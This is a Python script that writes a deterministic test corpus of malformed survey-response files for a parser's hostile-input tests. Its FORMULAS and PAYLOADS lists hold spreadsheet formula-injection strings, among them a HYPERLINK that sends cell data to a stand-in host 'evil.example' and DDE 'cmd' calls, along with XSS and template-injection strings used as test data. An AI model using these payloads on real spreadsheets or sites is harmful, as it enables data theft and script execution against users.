"""Write the hostile-input corpus used by tests/test_hostile_inputs.py.

    .venv/bin/python tests/hostile/make_corpus.py            # (re)write tests/hostile/corpus/
    .venv/bin/python tests/hostile/make_corpus.py OUT_DIR    # write elsewhere

Every file is built from literal rows below, so the expected numbers of
responses and rejects in the tests can be counted by eye from this script.
Output is deterministic (seeded randomness, fixed xlsx timestamps), and a test
checks the committed corpus matches this script byte for byte.

Large inputs (a 5 MB cell, 10,000 columns) are not written here: the tests call
``big_cell_csv()`` and ``ten_thousand_columns_csv()`` into a temporary folder.

All dates are in 2025 (in the past, after 2000) unless a case is about dates.
"""

from __future__ import annotations

import codecs
import io
import random
import re
import struct
import sys
import zipfile
import zlib
from datetime import datetime
from pathlib import Path

CORPUS_DIR = Path(__file__).resolve().parent / "corpus"
ROOT = CORPUS_DIR.parent.parent.parent
if str(ROOT) not in sys.path:  # also run as a script from anywhere
    sys.path.insert(0, str(ROOT))

# The default statements and feedback question, typed out once for all tests.
from tests.survey_text import FB, S1, S2, S3, S4, STATEMENTS  # noqa: E402
HEADER = ["Timestamp", S1, S2, S3, S4, FB]


def _csv_line(cells: list[str], delimiter: str = ",") -> str:
    """Quote like Excel: only cells holding the delimiter, a quote or a line break."""
    out = []
    for cell in cells:
        if any(ch in cell for ch in (delimiter, '"', "\n", "\r")):
            cell = '"' + cell.replace('"', '""') + '"'
        out.append(cell)
    return delimiter.join(out)


def _csv(rows: list[list[str]], delimiter: str = ",", newline: str = "\n", trailing: bool = True) -> str:
    text = newline.join(_csv_line(r, delimiter) for r in rows)
    return text + (newline if trailing else "")


def _utf8(rows: list[list[str]], **kwargs: object) -> bytes:
    return _csv(rows, **kwargs).encode("utf-8")  # type: ignore[arg-type]


# --- files that cannot be read at all ---------------------------------------


def empty() -> bytes:
    return b""


def blank_lines_only() -> bytes:
    return b"\r\n\n   \n\t\n"


def random_bytes() -> bytes:
    rng = random.Random(20260401)
    data = bytearray(rng.getrandbits(8) for _ in range(8192))
    data[100] = 0  # certainly binary
    return bytes(data)


def png_image() -> bytes:
    """A real 2x2 PNG."""

    def chunk(kind: bytes, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))

    raw = b"".join(b"\x00" + bytes([255, 0, 0, 0, 255, 0]) for _ in range(2))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def truncated_utf8() -> bytes:
    data = _utf8([HEADER, ["2025-03-03 10:00", "5", "4", "4", "3", "Très bien 👍"]], trailing=False)
    return data[:-2]  # cut inside the 4-byte emoji


def unclosed_quote() -> bytes:
    # Line 3 opens a quote that never closes.
    return (
        _csv([HEADER, ["2025-03-03 10:00", "5", "4", "4", "3", "fine"]])
        + '2025-03-03 10:05,4,4,4,4,"this quote never closes\n'
        + "2025-03-03 10:06,3,3,3,3,after\n"
    ).encode("utf-8")


def nul_in_text() -> bytes:
    return _utf8([HEADER, ["2025-03-03 10:00", "5", "4", "4", "3", "a\x00b"]])


def corrupt_xlsx() -> bytes:
    rng = random.Random(7)
    return b"PK\x03\x04" + bytes(rng.getrandbits(8) for _ in range(2000))


def truncated_xlsx() -> bytes:
    data = responses_xlsx()
    return data[: len(data) // 2]


def old_xls() -> bytes:
    rng = random.Random(8)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(rng.getrandbits(8) for _ in range(4096))


def no_statements() -> bytes:
    return _utf8([["Timestamp", "Colour", "Size"], ["2025-03-03 10:00", "red", "L"]])


def no_time_column() -> bytes:
    return _utf8([[S1, S2, S3, S4, FB], ["5", "4", "4", "3", "no time column"]])


def same_statement_twice() -> bytes:
    # Column 2 is the statement's text, column 6 one of its aliases.
    return _utf8([
        ["Timestamp", S1, S2, S3, S4, "Good use of my time", FB],
        ["2025-03-03 10:00", "5", "4", "4", "3", "5", "x"],
    ])


# --- readable files: counts are in the tests ---------------------------------


def header_only() -> bytes:
    return _utf8([HEADER])


def utf16le_no_bom() -> bytes:
    # 3 responses, comma separated, UTF-16 LE without a byte-order mark.
    return _csv([
        HEADER,
        ["2025-03-03 10:00", "5", "4", "4", "3", "Très bien"],
        ["2025-03-03 10:05", "4", "4", "4", "4", "Ça va"],
        ["2025-03-03 10:10", "3", "3", "3", "3", ""],
    ]).encode("utf-16-le")


def utf16_bom_tab() -> bytes:
    # Excel "Unicode text": BOM, tabs, CRLF. Row 3 (line 4) has answer "6": 2 responses, 1 reject.
    return codecs.BOM_UTF16_LE + _csv([
        HEADER,
        ["2025-03-03 10:00", "5", "4", "4", "3", "Grüße, merci"],
        ["2025-03-03 10:05", "Agree", "Agree", "Neutral", "Strongly agree", ""],
        ["2025-03-03 10:10", "6", "4", "4", "4", "bad answer"],
    ], delimiter="\t", newline="\r\n").encode("utf-16-le")


def cp1252_accents() -> bytes:
    # Excel's legacy CSV: cp1252, CRLF; the last line ends "café" + CRLF. 3 responses.
    return _csv([
        HEADER,
        ["2025-03-03 10:00", "5", "4", "4", "3", "Très bien, merci"],
        ["2025-03-03 10:05", "4", "4", "4", "4", "Señor Müller’s “quotes” – dash"],
        ["2025-03-03 10:10", "3", "3", "3", "3", "café"],
    ], newline="\r\n").encode("cp1252")


def cp1252_accent_at_end() -> bytes:
    # cp1252 whose only accented letter is the last before the final CRLF. 1 response.
    return _csv([HEADER, ["2025-03-03 10:00", "5", "4", "4", "3", "merci au café"]], newline="\r\n").encode("cp1252")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=tab-prefixed",
]


def formulas() -> bytes:
    # 6 responses with formula feedback; line 8 has a formula as an answer: 1 reject.
    rows = [HEADER]
    for i, text in enumerate(FORMULAS):
        rows.append([f"2025-03-03 10:{i:02d}", "5", "4", "4", "3", text])
    rows.append(["2025-03-03 11:00", '=HYPERLINK("http://evil.example","5")', "4", "4", "3", "formula answer"])
    return _utf8(rows)


PAYLOADS = [
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">',
    "![tracking pixel](https://evil.example/p.png)",
    "[click me](javascript:alert(1))",
    "<b>bold</b> &amp; & \"double\" 'single' `code`",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "line one\nline two\r\n<iframe src=//evil.example>",
    "</textarea><svg/onload=alert(1)>",
]


def html_payloads() -> bytes:
    # 8 responses; feedback stored verbatim.
    rows = [HEADER]
    for i, text in enumerate(PAYLOADS):
        rows.append([f"2025-03-03 10:{i:02d}", "4", "4", "4", "4", text])
    return _utf8(rows)


RTL_EMOJI = [
    "שלום, הפגישה הייתה מצוינת",
    "مرحبا بالجميع 👋 شكراً",
    "\u202eevil override\u202c text",
    "👩🏽‍💻🔥🚀 family: 👨‍👩‍👧‍👦",
    "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
]


def rtl_emoji() -> bytes:
    # 5 responses; answers also use an emoji before a label ("👍 Agree" = 4).
    rows = [HEADER]
    for i, text in enumerate(RTL_EMOJI):
        rows.append([f"2025-03-03 10:{i:02d}", "👍 Agree", "4", "4", "4", text])
    return _utf8(rows)


def dates_range() -> bytes:
    # 3 responses (lines 2, 3, 9); 5 rejects: 2 before 2000, 1 in the future, 2 without a whole date.
    return _utf8([
        HEADER,
        ["2000-01-01 00:00:00", "4", "4", "4", "4", "first moment of 2000"],
        ["2025-03-03 10:00", "4", "4", "4", "4", "ordinary"],
        ["1999-12-31 23:59:59", "4", "4", "4", "4", "before 2000"],
        ["1970-01-01", "4", "4", "4", "4", "epoch"],
        ["2099-01-01 10:00", "4", "4", "4", "4", "far future"],
        ["10:30", "4", "4", "4", "4", "time without a date"],
        ["March 3", "4", "4", "4", "4", "no year"],
        ["Mon, 03 Mar 2025 09:15:00", "4", "4", "4", "4", "rfc 2822 style"],
    ])


TIMEZONE_ROWS = [
    # (time cell, feedback tag naming the case)
    ("2025-03-03T10:00:00Z", "zulu"),
    ("2025-03-03T10:00:00+02:00", "plus two"),
    ("2025-03-03 10:00:00-0500", "minus five"),
    ("2025-03-03 10:00:00 UTC", "utc suffix"),
    ("2025-03-03T10:00:00.250+05:30", "plus five thirty"),
    ("2025-03-03 10:00:00", "naive"),
    ("2025-07-01 10:00:00", "naive summer"),
]


def timezones() -> bytes:
    rows = [HEADER] + [[cell, "4", "4", "4", "4", tag] for cell, tag in TIMEZONE_ROWS]
    return _utf8(rows)


SERIAL_ROWS = [
    ("45719", "serial day"),
    ("45719.75", "serial evening"),
    ("1741000000", "epoch seconds"),
    ("1741000000000", "epoch millis"),
]


def serial_dates() -> bytes:
    # Google Sheets' serial numbers (days since 1899-12-30) and Unix epochs. 4 responses.
    rows = [HEADER] + [[cell, "4", "4", "4", "4", tag] for cell, tag in SERIAL_ROWS]
    return _utf8(rows)


def day_first() -> bytes:
    # "13/02/2025" proves D/M/Y for the whole column. 3 responses.
    return _utf8([
        HEADER,
        ["03/02/2025 10:00:00", "4", "4", "4", "4", "third of February"],
        ["13/02/2025 10:00:00", "4", "4", "4", "4", "thirteenth of February"],
        ["01.03.2025 10:00", "4", "4", "4", "4", "first of March"],
    ])


def month_first() -> bytes:
    # "02/13/2025" proves M/D/Y. 2 responses.
    return _utf8([
        HEADER,
        ["03/02/2025 10:00:00", "4", "4", "4", "4", "second of March"],
        ["02/13/2025 10:00:00", "4", "4", "4", "4", "thirteenth of February"],
    ])


def duplicate_headers() -> bytes:
    # Two "Notes" columns and two feedback columns: refused until one is declared ("… (2)" for the second).
    # 2 responses; line 4 has answer "0": 1 reject.
    header = ["Timestamp", S1, S2, S3, S4, FB, "Notes", "Notes", FB]
    return _utf8([
        header,
        ["2025-03-03 10:00", "5", "4", "4", "3", "first feedback", "n1", "n2", "second feedback"],
        ["2025-03-03 10:05", "4", "4", "4", "4", "", "n1", "n2", "only in the second"],
        ["2025-03-03 10:10", "0", "4", "4", "4", "bad", "n1", "n2", "x"],
    ])


def blank_headers() -> bytes:
    # Blank header cells (columns 2, 7 and 9); column 9 holds Slack member ids. 2 responses, 1 reject (line 4).
    header = ["Timestamp", "", S1, S2, S3, S4, "", FB, ""]
    return _utf8([
        header,
        ["2025-03-03 10:00", "misc", "5", "4", "4", "3", "", "ok", "U024BE7LH"],
        ["2025-03-03 10:05", "", "4", "4", "4", "4", "side note", "", "W012A3CDE"],
        ["2025-03-03 10:10", "misc", "yes", "4", "4", "4", "", "bad", "U0G9QF9C6"],
    ])


def twice() -> bytes:
    # Given twice in one run. 3 responses (two identical rows stay two), 1 reject (line 5).
    return _utf8([
        HEADER,
        ["2025-03-03 10:00", "5", "4", "4", "3", "same"],
        ["2025-03-03 10:00", "5", "4", "4", "3", "same"],
        ["2025-03-03 10:05", "4", "4", "4", "4", "other"],
        ["2025-03-03 10:10", "4.5", "4", "4", "4", "bad"],
    ])


def semicolon() -> bytes:
    # European Excel: semicolons, dotted dates, decimal commas. 2 responses, 1 reject ("4,5" on line 4).
    return _csv([
        HEADER,
        ["03.03.2025 10:00", "5", "4", "4", "3", "Gut; danke"],
        ["03.03.2025 10:05", "4", "4", "4", "4", "Prima"],
        ["03.03.2025 10:10", "4,5", "4", "4", "4", "halb"],
    ], delimiter=";").encode("utf-8")


def tabs() -> bytes:
    # Tab-separated UTF-8. 2 responses.
    return _csv([
        HEADER,
        ["2025-03-03 10:00", "5", "4", "4", "3", "a, b, c"],
        ["2025-03-03 10:05", "4", "4", "4", "4", "tabbed"],
    ], delimiter="\t").encode("utf-8")


def crlf() -> bytes:
    # Windows line endings, a two-line feedback cell (lines 2-3) and a blank line (5).
    # 2 responses; the bad answer "9" is on line 6: 1 reject.
    return _csv([
        HEADER,
        ["2025-03-03 10:00", "5", "4", "4", "3", "first line\r\nsecond line"],
        ["2025-03-03 10:05", "4", "4", "4", "4", "plain"],
        [],
        ["2025-03-03 10:10", "9", "4", "4", "4", "bad"],
    ], newline="\r\n").encode("utf-8")


def cr_only() -> bytes:
    # Classic Mac line endings. 2 responses.
    return _csv([
        HEADER,
        ["2025-03-03 10:00", "5", "4", "4", "3", "cr one"],
        ["2025-03-03 10:05", "4", "4", "4", "4", "cr two"],
    ], newline="\r").encode("utf-8")


def bom_quoted_header() -> bytes:
    # UTF-8 BOM, then every header cell quoted. 2 responses.
    header = ",".join(f'"{h}"' for h in HEADER)
    rows = _csv([
        ["2025-03-03 10:00", "5", "4", "4", "3", "with bom"],
        ["2025-03-03 10:05", "4", "4", "4", "4", ""],
    ])
    return codecs.BOM_UTF8 + (header + "\n" + rows).encode("utf-8")


def leading_blank_lines() -> bytes:
    # Two empty lines and a line of empty cells before the header (line 4). 1 response, 1 reject (line 6).
    return ("\n\n,,,\n" + _csv([
        HEADER,
        ["2025-03-03 10:00", "5", "4", "4", "3", "ok"],
        ["2025-03-03 10:05", "", "", "", "", ""],  # nothing answered
    ])).encode("utf-8")


def labels() -> bytes:
    # Labels in odd case and spacing: 4 responses (lines 2-5).
    # Invalid answers "6", "0", "4.5", "yes", "5 - Disagree": 5 rejects (lines 6-10).
    return _utf8([
        HEADER,
        ["2025-03-03 10:00", "  strongly AGREE ", "Neutral", "5 - Strongly agree", "strongly   disagree", "labels"],
        ["2025-03-03 10:01", "DISAGREE", "Agree (4)", "3 – Neutral", "\u00a0agree\u00a0", "more labels"],
        ["2025-03-03 10:02", "Neither agree nor disagree", "Somewhat Agree", "1", " 2 ", "mixed"],
        ["2025-03-03 10:03", "5.0", "", "", "", "partial"],
        ["2025-03-03 10:04", "6", "4", "4", "4", "six"],
        ["2025-03-03 10:05", "0", "4", "4", "4", "zero"],
        ["2025-03-03 10:06", "4.5", "4", "4", "4", "four and a half"],
        ["2025-03-03 10:07", "yes", "4", "4", "4", "yes"],
        ["2025-03-03 10:08", "5 - Disagree", "4", "4", "4", "contradiction"],
    ])


def long_with_id() -> bytes:
    # Long layout with a response id. Response A: 4 answers + feedback. Response B: 2 answers,
    # one invalid answer row (line 9: 1 reject). 2 responses.
    header = ["Response ID", "Submitted at", "Question", "Answer"]
    return _utf8([
        header,
        ["A", "2025-03-03 10:00", S1, "5"],
        ["A", "2025-03-03 10:00", S2, "Agree"],
        ["A", "2025-03-03 10:00", S3, "4"],
        ["A", "2025-03-03 10:00", S4, "3"],
        ["A", "2025-03-03 10:00", FB, "long A feedback"],
        ["B", "2025-03-03 10:05", S1, "2"],
        ["B", "2025-03-03 10:05", S2, "strongly disagree"],
        ["B", "2025-03-03 10:05", S3, "seven"],
    ])


def long_without_id() -> bytes:
    # No response id: rows of one response share the submission time. 2 responses, 0 rejects.
    header = ["Timestamp", "Question", "Answer"]
    return _utf8([
        header,
        ["2025-03-03 10:00", S1, "5"],
        ["2025-03-03 10:00", S2, "4"],
        ["2025-03-03 10:00", FB, "long no id"],
        ["2025-03-03 10:07", S1, "3"],
        ["2025-03-03 10:07", S4, "2"],
    ])


def long_unknown_question() -> bytes:
    # Two rows ask questions that are not in the settings (lines 3 and 5): 2 rejects. 1 response.
    header = ["Response ID", "Timestamp", "Question", "Answer"]
    return _utf8([
        header,
        ["1", "2025-03-03 10:00", S1, "5"],
        ["1", "2025-03-03 10:00", "What is your favourite colour?", "blue"],
        ["1", "2025-03-03 10:00", S2, "4"],
        ["2", "2025-03-03 10:05", "Rate the snacks", "5"],
    ])


def responses_xlsx() -> bytes:
    """A real workbook: datetime cells, numeric answers, labels, a bad answer and a blank row.

    Sheet rows 2, 3, 4 and 7 are responses; row 5 ("yes") is a reject; row 6 is blank.
    """
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Form responses 1"
    sheet.append(HEADER)
    sheet.append([datetime(2025, 3, 3, 10, 0), 5, 4, 4, 3, "+cmd from xlsx"])
    sheet.append([datetime(2025, 3, 3, 10, 5), "Strongly agree", "agree", 4.0, 3, None])
    sheet.append([45719.5, 4, 4, 4, 4, "serial number time"])
    sheet.append([datetime(2025, 3, 3, 10, 15), "yes", 4, 4, 4, "bad"])
    sheet.append([None, None, None, None, None, None])
    sheet.append(["2025-03-03 10:20", "3", "3", "3", "3", "@SUM(A1) text cell"])
    book.properties.created = datetime(2025, 1, 1)
    buffer = io.BytesIO()
    book.save(buffer)
    return _normalise_zip(buffer.getvalue())


def _normalise_zip(data: bytes) -> bytes:
    """Rewrite a zip with fixed member timestamps so the output is byte-for-byte stable."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            fixed = zipfile.ZipInfo(info.filename, date_time=(2025, 1, 1, 0, 0, 0))
            fixed.compress_type = zipfile.ZIP_DEFLATED
            payload = source.read(info.filename)
            if info.filename == "docProps/core.xml":  # openpyxl stamps the save time here
                payload = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2025-01-01T00:00:00Z", payload)
            target.writestr(fixed, payload)
    return out.getvalue()


# --- large inputs: generated at test time --------------------------------------


def big_cell_csv(cell_chars: int = 5 * 1024 * 1024) -> bytes:
    """A 5 MB feedback cell (line 3) and a 5 MB answer cell (line 4). 1 response, 2 rejects."""
    huge = ("All work and no play " * (cell_chars // 21 + 1))[:cell_chars]
    return _utf8([
        HEADER,
        ["2025-03-03 10:00", "5", "4", "4", "3", "normal"],
        ["2025-03-03 10:05", "4", "4", "4", "4", huge],
        ["2025-03-03 10:10", huge, "4", "4", "4", "huge answer"],
    ])


def ten_thousand_columns_csv(columns: int = 10_000) -> bytes:
    """10,000 columns; the survey columns are the last six. 2 responses, 1 reject (line 4)."""
    extra = [f"Extra {i}" for i in range(1, columns - len(HEADER) + 1)]
    header = extra + HEADER
    filler = [str(i % 97) for i in range(len(extra))]
    return _utf8([
        header,
        filler + ["2025-03-03 10:00", "5", "4", "4", "3", "wide one"],
        filler + ["2025-03-03 10:05", "4", "4", "4", "4", "wide two"],
        filler + ["2025-03-03 10:10", "6", "4", "4", "4", "wide bad"],
    ])


# --- the corpus ------------------------------------------------------------------

CORPUS = {
    # unreadable
    "empty.csv": empty,
    "blank_lines_only.csv": blank_lines_only,
    "random_bytes.csv": random_bytes,
    "picture.png": png_image,
    "truncated_utf8.csv": truncated_utf8,
    "unclosed_quote.csv": unclosed_quote,
    "nul_in_text.csv": nul_in_text,
    "corrupt.xlsx": corrupt_xlsx,
    "truncated.xlsx": truncated_xlsx,
    "old_format.xls": old_xls,
    "no_statements.csv": no_statements,
    "no_time_column.csv": no_time_column,
    "same_statement_twice.csv": same_statement_twice,
    # readable
    "header_only.csv": header_only,
    "utf16le_no_bom.csv": utf16le_no_bom,
    "utf16_bom_tab.txt": utf16_bom_tab,
    "cp1252_accents.csv": cp1252_accents,
    "cp1252_accent_at_end.csv": cp1252_accent_at_end,
    "formulas.csv": formulas,
    "html_payloads.csv": html_payloads,
    "rtl_emoji.csv": rtl_emoji,
    "dates_range.csv": dates_range,
    "timezones.csv": timezones,
    "serial_dates.csv": serial_dates,
    "day_first.csv": day_first,
    "month_first.csv": month_first,
    "duplicate_headers.csv": duplicate_headers,
    "blank_headers.csv": blank_headers,
    "twice.csv": twice,
    "semicolon.csv": semicolon,
    "tabs.tsv": tabs,
    "crlf.csv": crlf,
    "cr_only.csv": cr_only,
    "bom_quoted_header.csv": bom_quoted_header,
    "leading_blank_lines.csv": leading_blank_lines,
    "labels.csv": labels,
    "long_with_id.csv": long_with_id,
    "long_without_id.csv": long_without_id,
    "long_unknown_question.csv": long_unknown_question,
    "responses.xlsx": responses_xlsx,
}


def write_corpus(out_dir: Path = CORPUS_DIR) -> list[Path]:
    out_dir.mkdir(parents=True, exist_ok=True)
    written = []
    for name, build in CORPUS.items():
        path = out_dir / name
        path.write_bytes(build())
        written.append(path)
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else CORPUS_DIR
    paths = write_corpus(target)
    print(f"wrote {len(paths)} files to {target}")
